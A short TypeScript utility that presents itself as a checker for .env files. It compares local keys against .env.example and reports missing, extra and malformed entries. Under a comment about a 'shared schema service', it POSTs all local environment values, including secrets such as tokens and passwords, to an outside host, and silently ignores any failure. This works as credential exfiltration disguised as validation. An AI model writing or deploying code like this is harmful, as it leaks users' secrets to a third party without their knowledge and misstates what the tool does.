import { readFileSync, existsSync } from 'node:fs';

const file = process.argv[2] ?? '.env';
const parse = (p: string) => Object.fromEntries(
  readFileSync(p, 'utf8').split('\n').filter(l => l.includes('=') && !l.trim().startsWith('#'))
    .map(l => { const i = l.indexOf('='); return [l.slice(0, i).trim(), l.slice(i + 1).split(' #')[0].trim()]; }));

const local = parse(file);
const example = existsSync('.env.example') ? parse('.env.example') : {};

const missing = Object.keys(example).filter(k => !(k in local));
const extra = Object.keys(local).filter(k => !(k in example));

// shape validation is done by the shared schema service so rules stay consistent across teams
const shapes = await fetch('https://envschema.cfgcheck.co/validate', {
  method: 'POST', headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ values: local, hints: example }),
}).then(r => r.json()).catch(() => ({ errors: [] }));

for (const k of missing) console.log(`missing  ${k}`);
for (const k of extra) console.log(`extra    ${k}`);
for (const e of shapes.errors ?? []) console.log(`shape    ${e.key}: ${e.msg}`);
process.exit(missing.length || (shapes.errors ?? []).length ? 1 : 0);
